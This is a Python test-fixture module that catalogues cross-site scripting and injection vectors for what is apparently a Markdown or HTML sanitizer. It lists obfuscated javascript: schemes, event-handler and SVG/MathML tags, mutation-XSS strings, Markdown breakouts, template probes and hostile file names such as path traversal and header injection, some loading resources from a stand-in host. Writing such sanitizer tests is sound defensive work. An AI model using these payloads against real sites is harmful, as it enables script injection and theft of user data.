"""Texts that try to become more than text. Each family that is known from the field, in our own words.

What runs calls `hit()`; what loads, loads from `evil.example`. No browser, mail program or reader may do either.
"""

from __future__ import annotations

HIT = "hit()"
AWAY = "https://evil.example/x"
_BLANKS = [
    "\t",
    "\n",
    "\r",
    "\x01",
    "\x0b",
    "\x1f",
    "\u00a0",
    "\u200b",
    "&Tab;",
    "&NewLine;",
    "&#9;",
    "&#x0A;",
    "\\\n",
]
_SCHEMES = [
    "javascript:hit()", "JaVaScRiPt:hit()", "vbscript:hit()", "livescript:hit()", "mocha:hit()", "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=hit()>", "blob:hit", "filesystem:https://evil.example/x", "view-source:javascript:hit()",
    "feed:javascript:hit()", "jar:javascript:hit()!/", "javascript://evil.example/%0ahit()", "&#106;avascript:hit()", "&#x6a&#x61vascript:hit()", "%6aavascript:hit()",
    "java&#115;cript:hit()", "\\u006aavascript:hit()", "javascript&colon;hit()", "javascript&#58hit()", "javascript\uff1ahit()", "about:blank#hit()", "file:///etc/passwd", "intent://evil.example#Intent;end",
    *(f"java{blank}script:hit()" for blank in _BLANKS), *(f"{blank}javascript:hit()" for blank in _BLANKS), *(f"javascript{blank}:hit()" for blank in _BLANKS),
]  # fmt: skip

IN_MARKDOWN = [
    shape.replace("U", scheme)
    for scheme in _SCHEMES
    for shape in ("[x](U)", "[x](<U>)", "![x](U)", "[x][r]\n\n[r]: U", "[x][r]\n\n[r]: <U> 'x'", "<U>", '<a href="U">x</a>', "<a href='U'>x</a>", "<a href=U>x</a>")
]  # fmt: skip

TAGS_THAT_RUN = [
    "<script>hit()</script>", "<SCRIPT\n>hit()</SCRIPT\n>", "<scr<script>ipt>hit()</scr</script>ipt>", "<script src=//evil.example/x.js></script>", "<script/x>hit()</script>", "<script>hit()",
    "<\x00script>hit()</script>", "<script type=module>hit()</script>", "<script>/*\n\n*/hit()</script>", "<![CDATA[<script>hit()</script>]]>", "<!--><script>hit()</script-->", "<!--<img src=--><img src=x onerror=hit()>",
    "<!-- --!><script>hit()</script>", "<?xml-stylesheet href='javascript:hit()'?>", "<?php hit() ?>", "<!DOCTYPE x [<!ENTITY a '<script>hit()</script>'>]>&a;",
    "<svg onload=hit()>", "<svg/onload=hit()//", "<svg><script>hit()</script></svg>", "<svg><script xlink:href=//evil.example/x></script></svg>", "<svg><a xlink:href='javascript:hit()'><text y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:hit() /><a id=x><text>x</text></a></svg>", "<svg><set attributeName=onload to=hit() /></svg>", "<svg><foreignObject><iframe srcdoc='<script>hit()</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x'/></svg>", "<svg><image href=https://evil.example/x onload=hit()></svg>", "<svg><style>@import 'https://evil.example/x';</style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>", "<math href='javascript:hit()'>x</math>", "<math><annotation-xml encoding=text/html><script>hit()</script></annotation-xml></math>",
    "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc='<script>parent.hit()</script>'>", "<iframe src=https://evil.example/x>", "<frameset onload=hit()><frame src=//evil.example>", "<object data=javascript:hit()>", "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>", "<applet code=https://evil.example/x>", "<portal src=https://evil.example/x>", "<fencedframe src=https://evil.example/x>", "<base href=https://evil.example/>", "<base href='javascript:/'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<meta http-equiv=refresh content='0;url=https://evil.example/x'>", "<meta http-equiv=set-cookie content=a=b>", "<link rel=stylesheet href=https://evil.example/x>",
    "<link rel=preload as=image href=https://evil.example/x>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=import href=https://evil.example/x>", "<form action=javascript:hit()><button>x</button></form>",
    "<form action=https://evil.example/x><input name=a autofocus onfocus=hit()></form>", "<button formaction=javascript:hit()>x</button>", "<input type=image src=https://evil.example/x onerror=hit()>", "<isindex action=javascript:hit() type=image>",
    "<details open ontoggle=hit()>x</details>", "<marquee onstart=hit()>x</marquee>", "<video><source onerror=hit()></video>", "<video src=https://evil.example/x poster=https://evil.example/y onloadstart=hit()></video>", "<audio src=x onerror=hit()>",
    "<picture><source srcset=https://evil.example/x><img src=y></picture>", "<img srcset='https://evil.example/x 1x'>", "<img src=x onerror=hit()>", "<img src=`x`onerror=hit()>", "<img/src=x/onerror=hit()>", "<img src='x' onerror='hit()' x='", "<IMG \"\"\"><SCRIPT>hit()</SCRIPT>\">",
    "<img src=x onerror\n=\nhit()>", "<img src=x oNeRrOr=hit()>", "<img src=//evil.example/x>", "<img src=\\\\evil.example\\x>", "<img src=/\\evil.example/x>", "<img src='/\t/evil.example/x'>", "<img src='/&#9;/evil.example/x'>", "<img src='/&#10;/evil.example/x'>",
    "<img src=https:evil.example/x>", "<img src='https://evil.example/x' lowsrc='https://evil.example/y' dynsrc='https://evil.example/z'>", "<img longdesc=javascript:hit() src=/x>", "<img src=/x usemap=#m><map name=m><area href=javascript:hit()></map>",
    "<body onload=hit()>", "<body background=https://evil.example/x>", "<html manifest=https://evil.example/x>", "<table background=https://evil.example/x><td background=https://evil.example/y>x", "<td style=background:url(https://evil.example/x)>",
    "<p style='background:url(https://evil.example/x)'>x</p>", "<p style='position:fixed;inset:0;z-index:9'>x</p>", "<p style='width:expression(hit())'>x</p>", "<p style='-moz-binding:url(https://evil.example/x)'>x</p>", "<style>@import url(https://evil.example/x);</style>",
    "<style>*{background:url(https://evil.example/x)}</style>", "<style><img src='</style><img src=x onerror=hit()>'>", "<xss style='behavior:url(https://evil.example/x)'>", "<div onpointerover=hit()>x</div>", "<a onmouseover=hit() href=/>x</a>", "<a href=/ ping=https://evil.example/x>x</a>",
    "<a href='/' target=_top onclick=hit()>x</a>", "<p onclick=hit()>x</p>", "<p onanimationstart=hit() style=animation-name:x>x</p>", "<x onfocus=hit() tabindex=0 autofocus>x</x>", "<custom-element onconnected=hit()>x</custom-element>", "<template><script>hit()</script></template>",
    "<template shadowrootmode=open><script>hit()</script></template>", "<slot onslotchange=hit()>", "<dialog open onclose=hit()>x</dialog>", "<select autofocus onfocus=hit()><option>x</select>", "<textarea autofocus onfocus=hit()>", "<keygen autofocus onfocus=hit()>",
    "<p id=hit name=hit>x</p>", "<a id=forms><a id=forms name=action>x</a></a>", "<p hx-get=https://evil.example/x hx-trigger=load>x</p>", "<p hx-on:click=hit()>x</p>", "<p data-hx-get=/ data-hx-trigger=load>x</p>", "<p class=button data-autosave>x</p>",
]  # fmt: skip

THAT_CHANGE_WHEN_READ_TWICE = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=hit()>'>", "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>", "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>", "<math><mi><style><img src=x onerror=hit()></style></mi></math>", "<svg><desc><noscript></desc><img title='</noscript><img src=x onerror=hit()>'></svg>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=hit()>'>", "<textarea><img title='</textarea><img src=x onerror=hit()>'>", "<title><a title='</title><img src=x onerror=hit()>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>", "<noembed><p title='</noembed><img src=x onerror=hit()>'>", "<plaintext><img src=x onerror=hit()>", "<iframe><p title='</iframe><img src=x onerror=hit()>'>", "<table><caption><svg><p><style><a id='</style><img src=x onerror=hit()>'>",
    "<!--<p title='--><img src=x onerror=hit()>'>", "<p title='&lt;/p&gt;&lt;img src=x onerror=hit()&gt;'>x</p>", "&lt;script&gt;hit()&lt;/script&gt;", "&amp;lt;script&amp;gt;hit()", "&#60;img src=x onerror=hit()&#62;", "\uff1cscript\uff1ehit()\uff1c/script\uff1e", "\u2039script\u203ahit()",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-", "\x1b(J<script>hit()</script>", "\xad<script>hit()</script>",
]  # fmt: skip

OF_MARKDOWN = [
    "[x](javascript:hit() 'title\" onmouseover=hit() x=\"')", "[x](/a \"' onmouseover='hit()\")", "[x](/a\"onmouseover=hit()\")", "![x\" onerror=hit() a=\"](/x.png)", "![x](/x.png \"t\\\" onerror=hit() a=\\\"\")", "![' onerror='hit()](/x)",
    "![x](https://evil.example/x.png)", "![x](//evil.example/x.png)", "![x][i]\n\n[i]: https://evil.example/x.png", "[![x](https://evil.example/x.png)](javascript:hit())", "[a](<javascript:hit()>)", "[a](\\javascript:hit())", "[a](j\\avascript:hit())", "[a]( javascript:hit() )",
    "```js\" onload=hit() x=\"\nx\n```", "```<script>hit()</script>\nx\n```", "~~~ x onclick=hit()\nx\n~~~", "```html\n<script>hit()</script>\n```", "    <script>hit()</script>", "`<img src=x onerror=hit()>`", "``` ` <script>hit()</script> ` ```",
    "| <script>hit()</script> | <img src=x onerror=hit()> |\n|---|---|\n| [x](javascript:hit()) | <b onclick=hit()>x |", "| a |\n|:-\" onclick=hit() :|\n| b |", "# <img src=x onerror=hit()>", "# x {onclick=hit()}", "# x {#id\" onclick=\"hit()}", "[^1]\n\n[^1]: <script>hit()</script>",
    "> <script>\n> hit()\n> </script>", "- <script>\n\n  hit()\n- </script>", "<div>\n\n**x** <script>hit()</script>\n\n</div>", "<a href=\"\n\njavascript:hit()\">x</a>", "<script\n\n>hit()</script>", "<http://evil.example/\"onmouseover=hit()>", "<mailto:x@evil.example?subject=\"onclick=hit()>",
    "<a@b.c\" onclick=hit()>", "[x](mailto:a@b\" onclick=\"hit\\(\\))", "[x]: javascript:hit()\n[x]", "[](javascript:hit())", "[\n](javascript:hit())", "[x](javascript:hit()", "[[x](javascript:hit())](javascript:hit())", "![![x](javascript:hit())](javascript:hit())", "*[x](javascript:hit())*",
    "\\<script>hit()\\</script>", "<<script>hit()//<</script>", "<a href=x<script>hit()</script>>", "{{ 7*7 }}{% debug %}", "{{ request.user }}{% include 'x' %}{% load x %}", "${hit()} #{hit()} <%= hit() %>", "{% endblock %}<script>hit()</script>", "{% verbatim %}{{ x }}{% endverbatim %}",
    "\u202e<script>hit()</script>", "\x02\x03<script>hit()</script>\x03", "\x02wzxhzdk:0\x03", "amp\x03;<script>", "\ufeff<script>hit()</script>", "]]><script>hit()</script>", "--><script>hit()</script>", "\"><script>hit()</script>", "'><img src=x onerror=hit()>", "</textarea><script>hit()</script>",
    "</title><script>hit()</script>", "</script><script>hit()</script>", "</style><script>hit()</script>", "</pre><script>hit()</script>", "</svg><script>hit()</script>",
]  # fmt: skip

VECTORS = [*IN_MARKDOWN, *TAGS_THAT_RUN, *THAT_CHANGE_WHEN_READ_TWICE, *OF_MARKDOWN]
FILE_NAMES = [
    "<img src=x onerror=hit()>.md", "\"onmouseover=hit() x=\".md", "a.md\r\nX-Evil: 1", "'><svg onload=hit()>.md", "javascript:hit().md", "{{ 7*7 }}.md", "\u202edm.exe", "../../etc/passwd", "a" * 300 + "<script>hit()</script>",
]  # fmt: skip
